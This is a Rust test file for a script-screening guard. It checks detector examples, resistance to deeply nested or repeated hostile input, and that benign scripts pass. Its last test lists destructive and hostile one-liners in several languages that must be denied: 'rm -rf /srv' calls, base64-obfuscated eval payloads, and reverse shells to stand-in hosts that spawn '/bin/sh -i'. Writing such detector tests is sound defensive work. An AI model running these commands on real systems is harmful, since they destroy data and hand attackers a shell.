//! The catalogue's examples, evasions by class, hostile inputs.
#![allow(clippy::arithmetic_side_effects, reason = "small numbers of tests")]

use crate::{
    analyzer::{Analyzers, Language, Scope},
    detector::{Catalog, syntax::DetectorKind},
    guard::Settings,
    limits::Limits,
};
use std::sync::LazyLock;

static ANALYZERS: LazyLock<Analyzers> = LazyLock::new(|| {
    Analyzers::new(Catalog::embedded().unwrap().clone(), &Settings::default()).unwrap()
});

fn found(text: &str, language: Language) -> Vec<&'static str> {
    let limits = Limits::default();
    let mut scope = Scope::new(&ANALYZERS, &limits);
    ANALYZERS.code.analyze(text, language, &mut scope);
    scope
        .findings
        .iter()
        .map(|f| ANALYZERS.catalog.get(f.detector).unwrap().id.as_str())
        .collect()
}

fn stopped_by(ids: &[&str]) -> bool {
    ids.iter().any(|id| {
        let d = ANALYZERS
            .catalog
            .get(ANALYZERS.catalog.find(id).unwrap())
            .unwrap();
        d.tags.iter().any(|t| t == "deny" || t == "review")
            || d.kind == DetectorKind::Engine
            || (!matches!(
                d.kind,
                DetectorKind::Command | DetectorKind::Code | DetectorKind::Sql
            ) && d.risk_score >= 0.5)
    })
}

fn denied(text: &str, language: Language) -> bool {
    found(text, language).iter().any(|id| {
        let d = ANALYZERS
            .catalog
            .get(ANALYZERS.catalog.find(id).unwrap())
            .unwrap();
        d.tags.iter().any(|t| t == "deny")
    })
}

/// The language that an entry's examples are written in.
fn language_of(source: &crate::detector::syntax::DetectorSource) -> Language {
    match source.id.split('.').nth(1) {
        Some("javascript") => Language::JavaScript,
        Some("perl") => Language::Perl,
        Some("ruby") => Language::Ruby,
        Some("php") => Language::Php,
        Some("lua") => Language::Lua,
        Some("awk") => Language::Awk,
        _ => Language::Python,
    }
}

#[test]
fn every_example_gives_its_finding_and_no_negative_does() {
    let mut wrong = Vec::new();
    for (_, source) in ANALYZERS.catalog.iter() {
        if source.kind != DetectorKind::Code {
            continue;
        }
        let language = language_of(source);
        for example in &source.examples {
            let ids = found(example.text(), language);
            if !ids.contains(&source.id.as_str()) {
                wrong.push(format!("{} misses: {} {ids:?}", source.id, example.text()));
            }
        }
        for example in &source.negative_examples {
            if found(example.text(), language).contains(&source.id.as_str()) {
                wrong.push(format!("{} must not see: {}", source.id, example.text()));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Prints how a labelled corpus fares: `EGRESS_PY_CORPUS=… cargo test … python_shares -- --ignored --nocapture`.
#[test]
#[ignore = "needs a labelled corpus"]
fn python_shares() {
    let path = std::env::var("EGRESS_PY_CORPUS").unwrap();
    let mut totals: std::collections::BTreeMap<String, (u32, u32)> = Default::default();
    for line in std::fs::read_to_string(path).unwrap().lines() {
        let case: serde_json::Value = serde_json::from_str(line).unwrap();
        let code = case["command"].as_str().unwrap();
        let allow = case["expected"] == "ALLOW";
        let ids = found(code, Language::Python);
        let good = stopped_by(&ids) != allow;
        let strict = case["expected"] != "DENY" || denied(code, Language::Python);
        let category = case["category"].as_str().unwrap();
        for key in [
            category.to_owned(),
            format!(" ALL {}", case["expected"].as_str().unwrap()),
        ] {
            let slot = totals.entry(key).or_default();
            slot.0 += u32::from(good);
            slot.1 += 1;
        }
        if !good || !strict {
            println!("{} [{category}] {code:?} {ids:?}", case["expected"]);
        }
    }
    for (key, (good, all)) in totals {
        println!("{good:5}/{all:<5} {key}");
    }
}

/// Runs on the stack of a worker thread, which is smaller than the main one.
fn on_small_stack(run: impl FnOnce() + Send + 'static) {
    std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(run)
        .unwrap()
        .join()
        .unwrap();
}

#[test]
fn hostile_python_ends_on_a_small_stack() {
    on_small_stack(|| {
        let pieces = [
            "(",
            "[",
            "{",
            "-",
            "not ",
            "a.b",
            ".a",
            "x=",
            "f(",
            "a[",
            "lambda:",
            "a if b else ",
            "a**",
            "a+",
            "'a'+",
            "f'{",
            "f\"{f'{",
            "await ",
            "*",
            "@a\n",
            "a,",
            "a;",
            "x\n",
            "!ls\n",
            "%a\n",
            "if x:",
            "\\\n",
            "'",
            "'''",
            "\"\"\"",
            "#",
            "a:=",
            "for x in ",
            "a<b<",
            "a and ",
            "yield ",
            "print 'x'\n",
            "eval(",
            "exec('",
            "\0",
            "\u{feff}",
            "async ",
            "match x:\n case ",
            "def f(a=",
            "class a(",
            "try:\n",
            "import a.",
            "from . import ",
            "{**",
            "f(*",
            "a()",
            "a().b",
            "x[0]",
            "with a as ",
            "a|",
            "else:",
            "elif x:\n",
            "a%b%",
            "global a\n",
            "..",
        ];
        for piece in pieces {
            found(&piece.repeat(250_000 / piece.len()), Language::Python);
        }
        let mut nested = String::new();
        for depth in 0..500 {
            nested.push_str(&" ".repeat(depth));
            nested.push_str("if x:\n");
        }
        assert!(found(&nested, Language::Python).contains(&"engine.syntax-budget"));
        for depth in [80, 89, 95] {
            let mut text = String::new();
            for level in 0..depth {
                text.push_str(&" ".repeat(level));
                text.push_str("if x:\n");
            }
            text.push_str(&" ".repeat(depth));
            text.push_str("os.system('ls')\n");
            assert!(stopped_by(&found(&text, Language::Python)));
            let call = format!("{}eval('1'){}", "f(".repeat(depth), ")".repeat(depth));
            assert!(stopped_by(&found(&call, Language::Python)));
        }
        let long = format!("x = {}1\nimport os\nos.system('ls')", "1 + ".repeat(900));
        assert!(found(&long, Language::Python).contains(&"code.python.os-system"));
        let chain = format!("x{}\nimport os\nos.system('ls')", ".a()".repeat(300));
        assert!(stopped_by(&found(&chain, Language::Python)));
    });
}

#[test]
fn functions_that_call_each_other_end() {
    let mut text = String::new();
    for i in 0..200 {
        text.push_str(&format!(
            "def f{i}(x):\n    f{}(x)\n    f{}(x)\n",
            i + 1,
            (i + 7) % 200
        ));
    }
    text.push_str("f0('ls')\n");
    found(&text, Language::Python);
    let doubled = (0..40).fold("x0 = 'a'\n".to_owned(), |text, i| {
        text + &format!("x{} = x{i} + x{i}\n", i + 1)
    });
    found(&doubled, Language::Python);
    let lists = (0..40).fold("x0 = [1]\n".to_owned(), |text, i| {
        text + &format!("x{} = [x{i}, x{i}]\n", i + 1)
    });
    found(&(lists + "print(x40)\nexec(x40)"), Language::Python);
    let quine = "exec(\"exec('eval(\\\"1\\\")')\")";
    assert!(denied(quine, Language::Python));
}

#[test]
fn hostile_scripts_end_on_a_small_stack() {
    on_small_stack(|| {
        let languages = [
            Language::JavaScript,
            Language::Perl,
            Language::Ruby,
            Language::Php,
            Language::Lua,
            Language::Awk,
        ];
        let pieces = [
            "(",
            "[",
            "{",
            "f(",
            "a.",
            "a.b",
            "a[",
            "'",
            "\"",
            "`",
            "`${",
            "\"#{",
            "${",
            "/",
            "/*",
            "a=",
            "a+",
            "q{",
            "%x{",
            "new ",
            "return ",
            "system ",
            "system \"x\",",
            "=>",
            "{a:",
            "import ",
            "const {",
            "a=a+a;",
            "x='a'+",
            "s/a/b/e ",
            "|",
            "\"x\"|getline ",
            "[[",
            "--[[",
            "fork ",
            "await ",
            "?",
            "\\",
            "a,",
            "require('",
        ];
        for language in languages {
            for piece in pieces {
                found(&piece.repeat(4_000 / piece.len()), language);
            }
        }
    });
}

#[test]
fn ordinary_scripts_are_not_stopped() {
    for (language, text) in [
        (Language::JavaScript, "console.log(process.version)"),
        (Language::JavaScript, "console.log('rm -rf /')"),
        (Language::JavaScript, "require('./package.json').version"),
        (
            Language::JavaScript,
            "const m = /rm -rf/.exec(line); console.log(m[0])",
        ),
        (
            Language::JavaScript,
            "const fs = require('fs'); console.log(fs.readFileSync('a.txt', 'utf8'))",
        ),
        (
            Language::JavaScript,
            "fetch('https://api.example/x').then(r => r.json()).then(console.log)",
        ),
        (Language::JavaScript, "[1,2].map(x => x * 2).join(',')"),
        (
            Language::JavaScript,
            "arr.splice(0, 1); map.delete('a'); set.clear()",
        ),
        (Language::Perl, "while (<>) { print if /foo/ }"),
        (Language::Perl, "s/system/exec/g; print"),
        (Language::Perl, "print join(',', map { $_ * 2 } @F)"),
        (Language::Ruby, "puts 1"),
        (Language::Ruby, "puts [1, 2].map { |x| x + 1 }.inspect"),
        (Language::Php, "echo phpversion();"),
        (
            Language::Php,
            "file_exists('.env.test.local') || copy('.env.test', '.env.test.local');",
        ),
        (Language::Lua, "print(os.date())"),
        (Language::Awk, "{ sum += $1 } END { print sum }"),
        (Language::Awk, "$9 != \"\" && n < 10 {print; n++}"),
    ] {
        assert!(
            !stopped_by(&found(text, language)),
            "{text} {:?}",
            found(text, language)
        );
    }
}

#[test]
fn scripts_that_destroy_are_denied() {
    for (language, text) in [
        (
            Language::JavaScript,
            "require('child_process').execSync('rm -rf /srv')",
        ),
        (
            Language::JavaScript,
            "const c = 'child_' + 'process'; require(c)['exec' + 'Sync']('rm -rf /srv')",
        ),
        (
            Language::JavaScript,
            "import {spawn} from 'node:child_process'; spawn('rm', ['-rf', '/srv'])",
        ),
        (
            Language::JavaScript,
            "`${require('child_process').execSync('rm -rf /srv')}`",
        ),
        (
            Language::JavaScript,
            "new Deno.Command('rm', {args: ['-rf', '/srv']}).outputSync()",
        ),
        (
            Language::JavaScript,
            "eval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdybSAtcmYgLycp'))",
        ),
        (
            Language::JavaScript,
            "const {promisify: p} = require('util'); p(require('child_process').exec)('rm -rf /srv')",
        ),
        (Language::Perl, "system('rm', '-rf', '/srv')"),
        (Language::Perl, "system \"rm -rf /srv\""),
        (Language::Perl, "my $x = 'rm -rf ' . '/srv'; `$x`"),
        (Language::Perl, "qx{rm -rf /srv}"),
        (Language::Perl, "open(F, '|rm -rf /srv')"),
        (
            Language::Perl,
            "use Socket; socket(S,PF_INET,SOCK_STREAM,6); connect(S,$a); exec(\"/bin/sh -i\");",
        ),
        (Language::Ruby, "system('rm -rf /srv')"),
        (Language::Ruby, "%x{rm -rf /srv}"),
        (Language::Ruby, "IO.popen('rm -rf /srv')"),
        (Language::Ruby, "puts \"#{`rm -rf /srv`}\""),
        (
            Language::Ruby,
            "c=TCPSocket.new('h.example',1);while(l=c.gets);IO.popen(l,'r'){|io|c.print io.read}end",
        ),
        (Language::Php, "system('rm -rf /srv');"),
        (
            Language::Php,
            "$s=fsockopen('h.example',1);exec('/bin/sh -i <&3 >&3 2>&3');",
        ),
        (
            Language::Php,
            "@eval(base64_decode('c3lzdGVtKCdybSAtcmYgL3NydicpOw=='));",
        ),
        (Language::Lua, "os.execute('rm -rf /srv')"),
        (
            Language::Lua,
            "local s=require('socket'); local t=s.tcp(); t:connect('h.example',1); os.execute('/bin/sh -i')",
        ),
        (Language::Awk, "BEGIN { system(\"rm -rf /srv\") }"),
        (Language::Awk, "BEGIN { \"rm -rf /srv\" | getline }"),
        (
            Language::Awk,
            "BEGIN{s=\"/inet/tcp/0/203.0.113.7/4444\";while(1){s|&getline c;while((c|getline)>0)print|&s}}",
        ),
    ] {
        assert!(denied(text, language), "{text} {:?}", found(text, language));
    }
}
